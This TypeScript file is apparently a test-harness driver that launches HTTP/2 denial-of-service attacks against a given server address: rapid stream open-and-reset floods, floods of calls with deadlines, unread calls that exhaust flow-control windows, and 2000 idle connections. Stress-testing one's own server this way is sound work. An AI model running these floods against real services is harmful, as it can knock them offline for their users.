import { readFileSync } from 'node:fs';

import { FLAG, FRAME, frameOf } from '../e2e/faults/http2-frames';
import {
  callFrames,
  callHeaders,
  connectRaw,
  opening,
  resetFrame,
  SETTINGS_ACK,
  streamIdOf,
  windowFrame,
} from '../e2e/faults/raw-connection';
import type { RawConnection } from '../e2e/faults/raw-connection';
import type { Attack, AttackOrder } from './attacks';
import { PREFIX_BYTES, splitFrames } from './frames';

/** How many connections each attack has. */
const CONNECTIONS: Readonly<Record<Attack, number>> = {
  resets: 1,
  deadlines: 4,
  unread: 50,
  idle: 2000,
};

/** Milliseconds between two turns of a connection. */
const TURN_MS = 5;

/** Streams that are opened and reset in each turn. */
const RESETS_A_TURN = 50;

/** Calls of a connection that reads no answer; the window of HTTP/2 takes the first three, and the rest is held. */
const UNREAD_CALLS = 40;

const CANCEL = 8;
const LARGEST_WINDOW = 0x7fffffff;

/** The windows of a client that lets come what may. */
const OPEN_WINDOWS = [
  opening([[4, LARGEST_WINDOW]]),
  SETTINGS_ACK,
  windowFrame(0, LARGEST_WINDOW - 65_535),
];

/** Milliseconds between two looks whether all connections are there. */
const LOOK_MS = 10;

/** Attacks until it is killed, and says so once the server has answered on every connection that it begins with. */
async function main(): Promise<void> {
  const order = JSON.parse(process.argv[2] ?? '{}') as AttackOrder;
  const [frame] = splitFrames(readFileSync(order.framesFile)).frames;
  const message = frame?.subarray(PREFIX_BYTES) ?? Buffer.alloc(0);
  const count = CONNECTIONS[order.attack];
  const connections = Array.from({ length: count }, () => attack(order, message));
  while (!connections.every(isAnswered)) {
    await new Promise((resolve) => setTimeout(resolve, LOOK_MS));
  }
  process.stdout.write('ready\n');
}

/** One that reads no answers is not asked. */
function isAnswered({ socket, seen }: RawConnection): boolean {
  return socket.isPaused() || seen.size > 0;
}

/** Begins an attack on its first connection, which is returned. */
function attack(order: AttackOrder, message: Uint8Array): RawConnection {
  const { attack: kind, address, path, callsPerSecond } = order;
  const begin = (): RawConnection => {
    const connection = connectRaw(address);
    connection.send(...OPEN_WINDOWS);
    return connection;
  };
  switch (kind) {
    case 'idle':
      return begin();
    case 'unread': {
      const connection = connectRaw(address);
      connection.socket.pause();
      const headers = callHeaders(path);
      connection.send(opening(), SETTINGS_ACK);
      for (let at = 0; at < UNREAD_CALLS; at += 1) {
        connection.send(callFrames(streamIdOf(at), headers, message));
      }
      return connection;
    }
    case 'resets': {
      const headers = callHeaders(path);
      return repeat(begin, RESETS_A_TURN, (id) => [
        frameOf(FRAME.headers, FLAG.endHeaders, id, headers),
        resetFrame(id, CANCEL),
      ]);
    }
    case 'deadlines': {
      const headers = callHeaders(path, '1m');
      const callsATurn = (callsPerSecond * TURN_MS) / 1000 / CONNECTIONS.deadlines;
      return repeat(begin, callsATurn, (id) => [callFrames(id, headers, message)]);
    }
  }
}

/** Sends so many each turn; a connection that is closed is replaced. */
function repeat(
  begin: () => RawConnection,
  count: number,
  make: (streamId: number) => readonly Buffer[],
): RawConnection {
  const first = begin();
  let connection = first;
  let index = 0;
  let due = 0;
  setInterval(() => {
    if (connection.ending() !== undefined) {
      connection = begin();
      index = 0;
    }
    for (due += count; due >= 1; due -= 1) connection.send(...make(streamIdOf(index++)));
  }, TURN_MS);
  return first;
}

void main();
